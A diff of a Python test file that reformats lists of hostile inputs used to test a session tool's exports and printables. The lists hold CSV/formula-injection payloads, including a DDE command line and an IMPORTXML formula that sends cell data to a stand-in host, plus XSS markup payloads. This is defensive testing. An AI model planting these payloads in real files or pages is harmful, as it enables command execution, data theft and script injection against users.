@@ -24,11 +24,26 @@ from sessions.participants import add_participant
 from sessions.printables import briefing_markdown, name_cards_html, table_lists_html
 from sessions.report import build_report, render_actions_csv, render_actions_xlsx, render_markdown
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"klik\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
-            "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]  # fmt: skip
-MARKUP = ["<script>window.__xss=1</script>", "<img src=x onerror=window.__xss=1>", "<svg onload=window.__xss=1>",
-          "[klik](javascript:window.__xss=1)", "![x](http://evil.example/x.png)", "**vet** _schuin_ `code`",
-          "\"><iframe srcdoc='<script>window.__xss=1</script>'>", ":red[rood] $x^2$"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example","klik")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
+]
+MARKUP = [
+    "<script>window.__xss=1</script>",
+    "<img src=x onerror=window.__xss=1>",
+    "<svg onload=window.__xss=1>",
+    "[klik](javascript:window.__xss=1)",
+    "![x](http://evil.example/x.png)",
+    "**vet** _schuin_ `code`",
+    "\"><iframe srcdoc='<script>window.__xss=1</script>'>",
+    ":red[rood] $x^2$",
+]
 
 
 @pytest.fixture
@@ -39,12 +54,21 @@ def hostile(engine: Engine) -> Engine:
         table = session_tables(session=session, dialogue_id=1, round_number=1)[0]
         assert table.id is not None
         for payload in FORMULAS + MARKUP:
-            create_note(session=session, actor=SYSTEM, table_id=table.id, author=payload, text=payload,
-                        indicator_code=None)  # fmt: skip
-            create_action(session=session, actor=SYSTEM, table_id=table.id, author=payload, title=payload,
-                          lead_organisation=payload, partners=[payload])  # fmt: skip
-            add_participant(session=session, actor=SYSTEM, dialogue_id=1, name=payload, organisation=payload,
-                            rsvp="aangemeld")  # fmt: skip
+            create_note(
+                session=session, actor=SYSTEM, table_id=table.id, author=payload, text=payload, indicator_code=None
+            )
+            create_action(
+                session=session,
+                actor=SYSTEM,
+                table_id=table.id,
+                author=payload,
+                title=payload,
+                lead_organisation=payload,
+                partners=[payload],
+            )
+            add_participant(
+                session=session, actor=SYSTEM, dialogue_id=1, name=payload, organisation=payload, rsvp="aangemeld"
+            )
     return engine
 
 
